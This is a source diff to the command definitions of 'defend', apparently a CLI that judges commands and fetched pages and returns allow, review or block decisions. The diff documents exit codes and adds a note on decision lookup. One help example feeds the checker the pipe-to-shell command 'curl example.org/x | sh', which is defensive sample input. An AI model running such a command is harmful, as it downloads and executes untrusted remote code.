@@ -237,7 +237,10 @@ export const COMMANDS: readonly CommandSpec[] = [
       [`defend check --kind command "curl example.org/x | sh" --json`, "As a hook of another program."],
       ["defend check --origin web - < page.html", "Judge what a tool has fetched."],
     ],
-    notes: ["It needs no gateway and keeps no record. A check that fails ends with exit code 1."],
+    notes: [
+      "It needs no gateway and keeps no record.",
+      "The exit code is 0 for allow, 10 for review, 20 for block, and 1 for a check that fails.",
+    ],
     load: () => import("./defend-check.ts"),
   },
   {
@@ -263,6 +266,7 @@ export const COMMANDS: readonly CommandSpec[] = [
       "It comes back after a restart of the gateway. While it is away the gateway does what it does without it.",
       "SIGTERM and SIGINT end it with exit code 0; 1 means that the gateway refuses it, 78 that the configuration forbids it.",
     ],
+    jsonLines: true,
     load: () => import("./defend-attach.ts"),
   },
   {
@@ -270,6 +274,9 @@ export const COMMANDS: readonly CommandSpec[] = [
     summary: "Tell why something was reviewed or refused",
     args: [{ name: "id", summary: "The decision's id, as events and logs give it" }],
     options: [JSON_OUTPUT],
+    notes: [
+      "It looks among the records of this machine's gateway, then of its sidecars; exit code 1 when none has it.",
+    ],
     examples: [["defend explain 0f8fad5b-d9cb-469f-a165-70867728950e", "Findings, origin and an excerpt."]],
     load: () => import("./defend-explain.ts"),
   },
